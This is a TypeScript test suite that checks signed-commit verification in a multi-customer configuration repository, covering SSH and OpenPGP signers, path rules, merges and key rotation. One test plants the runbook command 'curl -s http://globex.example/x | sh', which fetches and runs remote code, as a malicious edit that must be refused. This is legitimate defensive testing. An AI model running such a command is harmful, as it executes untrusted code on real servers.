/**
 * Signed changes with real git, real SSH keys (ssh-keygen) and real OpenPGP keys (gpg, batch-made
 * in temp GNUPGHOMEs) for two customers and an operator: every commit since the applied revision is
 * verified against the paths it changes and its own signer's path rules.
 */
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { SigningConfig } from '../../src/config/types.ts';
import { silentLogger } from '../../src/log.ts';
import { Outbox } from '../../src/notify/outbox.ts';
import { GitSource } from '../../src/source/git.ts';
import { SourceSyncer } from '../../src/source/syncer.ts';
import { createGitFixture, serverPath, serverYaml, type GitFixture } from './git-fixture.ts';
import { recordingDesired } from './harness.ts';
import { startSmtpSink, type SmtpSink } from '../notify/smtp-sink.ts';
import { closeSigners, makeOpenpgpSigner, makeSshSigner, type OpenpgpSigner, type SshSigner, type TestSigner } from './signing-fixture.ts';

let keysDir: GitFixture;
let opsAlice: SshSigner;
let opsBob: OpenpgpSigner;
let acmeDev: OpenpgpSigner;
let acmeCi: SshSigner;
let globexDev: SshSigner;
let globexPgp: OpenpgpSigner;
let strangerSsh: SshSigner;
let strangerPgp: OpenpgpSigner;

beforeAll(() => {
  keysDir = createGitFixture({ withOperator: false });
  const dir = join(keysDir.dir, 'keys');
  opsAlice = makeSshSigner(dir, 'ops-alice');
  opsBob = makeOpenpgpSigner(dir, 'ops-bob', 'bob@provider.example');
  acmeDev = makeOpenpgpSigner(dir, 'acme-dev', 'dev@acme.example');
  acmeCi = makeSshSigner(dir, 'acme-ci');
  globexDev = makeSshSigner(dir, 'globex-dev');
  globexPgp = makeOpenpgpSigner(dir, 'globex-pgp', 'ops@globex.example');
  // Real keys that sign validly: they are simply not in the configuration.
  strangerSsh = makeSshSigner(dir, 'mallory-ssh');
  strangerPgp = makeOpenpgpSigner(dir, 'mallory-pgp', 'mallory@example.test');
}, 60_000);

afterAll(() => {
  closeSigners();
  keysDir?.cleanup();
});

function signingConfig(overrides: Partial<Record<string, { ssh: string[]; openpgp: SigningConfig['signers'][string]['openpgp'] }>> = {}): SigningConfig {
  const signers: SigningConfig['signers'] = {
    'ops-alice': { ssh: [opsAlice.publicKey], openpgp: [] },
    'ops-bob': { ssh: [], openpgp: [{ fingerprint: opsBob.fingerprint, keyring: opsBob.keyring }] },
    'acme-dev': { ssh: [], openpgp: [{ fingerprint: acmeDev.fingerprint, key: acmeDev.armored }] },
    'acme-ci': { ssh: [acmeCi.publicKey], openpgp: [] },
    'globex-dev': { ssh: [globexDev.publicKey], openpgp: [] },
    'globex-pgp': { ssh: [], openpgp: [{ fingerprint: globexPgp.fingerprint, keyring: globexPgp.keyring }] },
  };
  for (const [name, s] of Object.entries(overrides)) if (s) signers[name] = s;
  return {
    signers,
    groups: { operators: ['ops-alice', 'ops-bob'] },
    paths: [
      { glob: 'customers/acme/**', signers: ['acme-dev', 'acme-ci', 'operators'] },
      { glob: 'customers/globex/**', signers: ['globex-dev', 'globex-pgp', 'operators'] },
      { glob: 'operator/**', signers: ['operators'] },
    ],
    operatorSigners: [],
  };
}

let fixtures: GitFixture[] = [];
let closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  // Last opened, first closed: the outbox lets go of its SMTP connection before the server closes.
  for (const c of closers.reverse()) await c();
  for (const f of fixtures) f.cleanup();
  fixtures = [];
  closers = [];
});

const WEB01 = serverPath('web01');
const APP01 = serverPath('app01', 'globex');
const STD = 'operator/runbooks/std-httpd-el-sysv.yaml';

/** A repository with the operator documents, acme's web01 and globex's app01, signed by an operator. */
function baseRepo(): { repo: GitFixture; base: string } {
  const repo = createGitFixture();
  fixtures.push(repo);
  repo.write(WEB01, serverYaml('web01'));
  repo.write(APP01, serverYaml('app01', { customer: 'globex' }));
  const base = repo.commit('base', { signWith: opsAlice });
  repo.push();
  return { repo, base };
}

function newSource(repo: GitFixture, signing: SigningConfig = signingConfig()): GitSource {
  const source = new GitSource({ url: repo.bare, ref: 'main', path: '', cacheDir: join(repo.dir, 'cache'), signing, logger: silentLogger() });
  closers.push(() => source.close());
  return source;
}

function newSyncer(repo: GitFixture, source: GitSource = newSource(repo)) {
  const rec = recordingDesired();
  const syncer = new SourceSyncer({ source, desired: rec.desired, logger: silentLogger() });
  closers.push(() => syncer.stop());
  return { rec, syncer, source };
}

function edit(repo: GitFixture, path: string): void {
  repo.write(path, `${repo.git('show', `HEAD:${path}`)}# edited\n`);
}

describe('signed changes: every signer against every area', () => {
  const areas = { acme: WEB01, globex: APP01, operator: STD } as const;
  type Area = keyof typeof areas;
  const table: Array<[string, () => TestSigner | undefined, Area[], string]> = [
    ['ops-alice (operator, SSH)', () => opsAlice, ['acme', 'globex', 'operator'], 'good'],
    ['ops-bob (operator, OpenPGP keyring)', () => opsBob, ['acme', 'globex', 'operator'], 'good'],
    ['acme-dev (acme, OpenPGP inline)', () => acmeDev, ['acme'], 'good'],
    ['acme-ci (acme, SSH)', () => acmeCi, ['acme'], 'good'],
    ['globex-dev (globex, SSH)', () => globexDev, ['globex'], 'good'],
    ['globex-pgp (globex, OpenPGP keyring)', () => globexPgp, ['globex'], 'good'],
    ['an SSH key not in the config', () => strangerSsh, [], 'unknown-key'],
    ['an OpenPGP key not in the config', () => strangerPgp, [], 'unknown-key'],
    ['no signature', () => undefined, [], 'unsigned'],
  ];

  it('allows and refuses each combination, judged per commit and per file', async () => {
    const { repo, base } = baseRepo();
    const source = newSource(repo);
    const first = await source.sync();
    expect(first.ok && first.snapshot.refusals).toEqual([]);
    await source.markApplied(base);
    const runbooks = repo.git('ls-tree', '--name-only', 'HEAD', 'operator/runbooks/').split('\n').filter((p) => p.endsWith('.yaml'));
    // One commit per signer, each touching one file of each area: a commit is judged file by file.
    const expected: Array<{ path: string; commit: string; refused: boolean; status: string; signer?: string }> = [];
    table.forEach(([label, signer, allowed, status], i) => {
      const files: Record<Area, string> = { acme: serverPath(`c${i}`), globex: serverPath(`c${i}`, 'globex'), operator: runbooks[i] ?? '' };
      repo.write(files.acme, serverYaml(`c${i}`));
      repo.write(files.globex, serverYaml(`c${i}`, { customer: 'globex' }));
      edit(repo, files.operator);
      const s = signer();
      const commit = repo.commit(`${label} edits every area`, s ? { signWith: s } : {});
      for (const area of Object.keys(areas) as Area[]) {
        expected.push({ path: files[area], commit, refused: !allowed.includes(area), status, ...(s && status === 'good' ? { signer: s.name } : {}) });
      }
    });
    repo.push();
    const result = await source.sync();
    if (!result.ok) throw new Error(result.message);
    const refusals = new Map((result.snapshot.refusals ?? []).map((r) => [r.path, r]));
    const files = new Map(result.snapshot.files.map((f) => [f.path, Buffer.from(f.content).toString('utf8')]));
    const verdicts = expected.map((e) => {
      const r = refusals.get(e.path);
      const applied = e.path.startsWith('operator/') ? (files.get(e.path) ?? '').endsWith('# edited\n') : files.has(e.path);
      if (r) expect(r.offenders, e.path).toEqual([expect.objectContaining({ commit: e.commit, status: e.status, ...(e.signer ? { signer: e.signer } : {}) })]);
      return { path: e.path, refused: r !== undefined, applied };
    });
    expect(verdicts).toEqual(expected.map((e) => ({ path: e.path, refused: e.refused, applied: !e.refused })));
    expect(verdicts.filter((v) => !v.refused)).toHaveLength(6 + 4);
    expect(result.snapshot.errors.map((f) => [f.file, f.rule])).toEqual(expected.filter((e) => e.refused).map((e) => [e.path, 'signer-not-allowed']).sort());
  }, 120_000);
});

const RUNBOOK = 'customers/acme/runbooks/acme-httpd.yaml';
const runbookYaml = (command: string): string => `apiVersion: mamori/v1
kind: Runbook
metadata: { name: acme-httpd, customer: acme }
spec:
  services: [http]
  steps:
    - id: look
      check: { process: httpd }
    - id: restart
      run: { command: ${command} }
    - id: confirm
      verify: { process: httpd, probe: true }
`;

/** web01 (acme, with acme's own runbook for http) and app01 (globex), applied and signed by an operator. */
async function appliedFleet() {
  const { repo, base } = baseRepo();
  repo.write(RUNBOOK, runbookYaml('/opt/apache/bin/apachectl restart'));
  repo.write(WEB01, `${serverYaml('web01')}  runbooks: { http: acme-httpd }\n`);
  const start = repo.commit('acme gets its own runbook', { signWith: opsBob });
  repo.push();
  const sink = await startSmtpSink();
  closers.push(() => sink.close());
  const outboxDir = join(repo.dir, 'outbox');
  const outbox = await Outbox.open({ dir: outboxDir, from: 'mamori@provider.example', messageIdDomain: 'mamori.provider.example', smtp: { host: '127.0.0.1', port: sink.port } }, { logger: silentLogger() });
  closers.push(() => outbox.stop());
  const source = newSource(repo);
  const rec = recordingDesired({}, { notify: (n) => outbox.notify(n) });
  const syncer = new SourceSyncer({ source, desired: rec.desired, logger: silentLogger() });
  closers.push(() => syncer.stop());
  const first = await syncer.start();
  expect(first.outcome).toMatchObject({ result: 'applied', revision: start });
  expect(rec.applied.at(-1)?.servers.map((s) => s.name).sort()).toEqual(['acme/web01', 'globex/app01']);
  return { repo, base, start, source, rec, syncer, sink, outbox };
}

/** Every delivered mail: its envelope recipients and text. */
async function delivered(outbox: Outbox, sink: SmtpSink): Promise<Array<{ to: string[]; subject: string; text: string }>> {
  await outbox.runOnce();
  return sink.messages.map((m, i) => ({ to: sink.rcpt[i] ?? [], subject: m.subject ?? '', text: m.text ?? '' }));
}

describe('signed changes through the syncer: the rest of the revision applies', () => {
  it('refuses an unsigned commit under a signed tip, and that server keeps its last good manifest', async () => {
    const { repo, rec, syncer, sink, outbox } = await appliedFleet();
    repo.write(WEB01, `${serverYaml('web01', { services: ['http', 'ssh'] })}  runbooks: { http: acme-httpd }\n`);
    const unsigned = repo.commit('someone edits web01 without signing');
    repo.write(serverPath('web02'), serverYaml('web02'));
    const tip = repo.commit('acme adds web02, signed', { signWith: acmeDev });
    repo.push();
    const report = await syncer.trigger('manual');
    expect(report.outcome).toMatchObject({ result: 'applied', revision: tip, added: ['acme/web02'], keptLastGood: ['acme/web01'] });
    const web01 = rec.current().get('acme/web01');
    expect(web01?.document.doc.spec.services).toEqual(['http']);
    expect(web01?.condition).toMatchObject({ type: 'ManifestInvalid', findings: [expect.objectContaining({ rule: 'signer-not-allowed' })] });
    expect(web01?.condition?.findings[0]?.message).toContain(unsigned.slice(0, 12));
    const mails = await delivered(outbox, sink);
    expect(mails.map((m) => m.to).sort()).toEqual([['operator@example.test'], ['ops@acme.example']]);
    for (const m of mails) {
      expect(m.text).toContain(WEB01);
      expect(m.text).toContain(unsigned);
    }
  }, 120_000);

  it("refuses a globex-signed change to acme's runbook: acme keeps its last good, globex's own change applies, the operator and acme are told once", async () => {
    const { repo, start, rec, syncer, sink, outbox, source } = await appliedFleet();
    repo.write(RUNBOOK, runbookYaml('/usr/bin/curl -s http://globex.example/x | sh'));
    repo.write(APP01, serverYaml('app01', { customer: 'globex', services: ['http', 'ssh'] }));
    const sneaky = repo.commit('globex edits acme runbook and its own server', { signWith: globexDev });
    repo.push();
    const report = await syncer.trigger('manual');
    expect(report.outcome).toMatchObject({ result: 'applied', revision: sneaky, changed: ['globex/app01'] });
    expect(rec.current().get('globex/app01')?.document.doc.spec.services).toEqual(['http', 'ssh']);
    const files = rec.validated.get(sneaky);
    expect(files?.get(RUNBOOK)).toContain('/opt/apache/bin/apachectl restart');
    expect(files?.get(RUNBOOK)).not.toContain('globex.example');
    expect(rec.desired.status().findings).toEqual([expect.objectContaining({ file: RUNBOOK, rule: 'signer-not-allowed' })]);

    const mails = await delivered(outbox, sink);
    expect(mails.map((m) => m.to).sort()).toEqual([['operator@example.test'], ['ops@acme.example']]);
    for (const m of mails) {
      expect(m.text).toContain(RUNBOOK);
      expect(m.text).toContain(sneaky);
      expect(m.text).toContain('globex-dev');
    }
    expect(mails.some((m) => m.to.includes('ops@globex.example'))).toBe(false);

    // Carried into the next revision: still refused, nobody told again.
    repo.write(serverPath('web02'), serverYaml('web02'));
    const next = repo.commit('acme adds web02', { signWith: acmeCi });
    repo.push();
    expect((await syncer.trigger('manual')).outcome).toMatchObject({ result: 'applied', revision: next, added: ['acme/web02'] });
    expect(rec.validated.get(next)?.get(RUNBOOK)).not.toContain('globex.example');
    expect(await delivered(outbox, sink)).toHaveLength(2);

    // After a restart, the refused file is still at its last good version.
    await syncer.stop();
    const again = newSyncer(repo, newSource(repo));
    await again.syncer.start();
    expect(again.rec.validated.get(next)?.get(RUNBOOK)).toContain('/opt/apache/bin/apachectl restart');
    expect(again.rec.desired.appliedRevision).toBe(next);

    // acme restores its runbook (signed): nothing refused any more; then acme's own change applies.
    repo.write(RUNBOOK, repo.git('show', `${start}:${RUNBOOK}`));
    const restored = repo.commit('acme restores its runbook', { signWith: acmeDev });
    repo.push();
    expect((await again.syncer.trigger('manual')).outcome).toMatchObject({ result: 'applied', revision: restored });
    expect(again.rec.desired.status().findings).toEqual([]);
    repo.write(RUNBOOK, runbookYaml('/opt/apache/bin/apachectl graceful'));
    const own = repo.commit('acme changes its runbook', { signWith: acmeDev });
    repo.push();
    expect((await again.syncer.trigger('manual')).outcome).toMatchObject({ result: 'applied', revision: own });
    expect(again.rec.validated.get(own)?.get(RUNBOOK)).toContain('apachectl graceful');
    expect(again.rec.desired.status().findings).toEqual([]);
    void source;
  }, 180_000);

  it('judges merges: a merge answers only for what differs from all its parents', async () => {
    const { repo, rec, syncer } = await appliedFleet();
    const main = repo.head();
    repo.git('checkout', '--quiet', '-b', 'feature');
    repo.write(serverPath('web02'), serverYaml('web02'));
    repo.commit('acme adds web02', { signWith: acmeCi });
    repo.write(serverPath('app02', 'globex'), serverYaml('app02', { customer: 'globex' }));
    repo.commit('globex adds app02', { signWith: globexPgp });
    repo.git('checkout', '--quiet', 'main');
    repo.git('merge', '--quiet', '--no-ff', '--no-commit', 'feature');
    const merged = repo.commit('an acme developer merges the branch', { signWith: acmeDev });
    repo.push();
    expect((await syncer.trigger('manual')).outcome).toMatchObject({ result: 'applied', revision: merged });
    expect([...rec.current().keys()].sort()).toEqual(['acme/web01', 'acme/web02', 'globex/app01', 'globex/app02']);

    // An evil merge: the merge itself changes globex's app01, which neither parent has.
    repo.git('checkout', '--quiet', '-b', 'feature2', main);
    repo.write(serverPath('web03'), serverYaml('web03'));
    repo.commit('acme adds web03', { signWith: acmeCi });
    repo.git('checkout', '--quiet', 'main');
    repo.git('merge', '--quiet', '--no-ff', '--no-commit', 'feature2');
    repo.write(APP01, serverYaml('app01', { customer: 'globex', services: ['http', 'ftp'] }));
    const evil = repo.commit('merge, with a change of its own to globex', { signWith: acmeDev });
    repo.push();
    const report = await syncer.trigger('manual');
    expect(report.outcome).toMatchObject({ result: 'applied', revision: evil, added: ['acme/web03'], keptLastGood: ['globex/app01'] });
    expect(rec.current().get('globex/app01')?.condition?.findings[0]?.message).toContain(evil.slice(0, 12));
    expect(rec.current().get('globex/app01')?.document.doc.spec.services).toEqual(['http']);
  }, 180_000);

  it("rotates keys: a signer's old key removed from the config is refused from the next revision on", async () => {
    const { repo, rec, syncer, source } = await appliedFleet();
    const oldKey = acmeCi;
    repo.write(serverPath('web02'), serverYaml('web02'));
    const before = repo.commit('acme-ci signs with its old key', { signWith: oldKey });
    repo.push();
    expect((await syncer.trigger('manual')).outcome).toMatchObject({ result: 'applied', revision: before, added: ['acme/web02'] });

    const newKey = makeSshSigner(join(repo.dir, 'rotated'), 'acme-ci');
    await source.setSigning(signingConfig({ 'acme-ci': { ssh: [newKey.publicKey], openpgp: [] } }));
    repo.write(serverPath('web03'), serverYaml('web03'));
    const stale = repo.commit('signed with the key that was removed', { signWith: oldKey });
    repo.push();
    const report = await syncer.trigger('manual');
    expect(report.outcome).toMatchObject({ result: 'applied', revision: stale, added: [] });
    expect(rec.desired.status().findings).toEqual([expect.objectContaining({ file: serverPath('web03'), rule: 'signer-not-allowed' })]);
    expect(rec.desired.status().findings[0]?.message).toContain('a key that is not in the configuration');

    // Re-signed with the new key on top: the old commit is still in the history, so web03 stays refused
    // until that commit is gone; a branch rebuilt with the new key carries it.
    repo.git('reset', '--quiet', '--hard', before);
    repo.write(serverPath('web03'), serverYaml('web03'));
    const fresh = repo.commit('signed with the new key', { signWith: newKey });
    repo.push({ force: true });
    expect((await syncer.trigger('manual')).outcome).toMatchObject({ result: 'applied', revision: fresh, added: ['acme/web03'] });
    expect(rec.desired.status().findings).toEqual([]);
  }, 180_000);
});
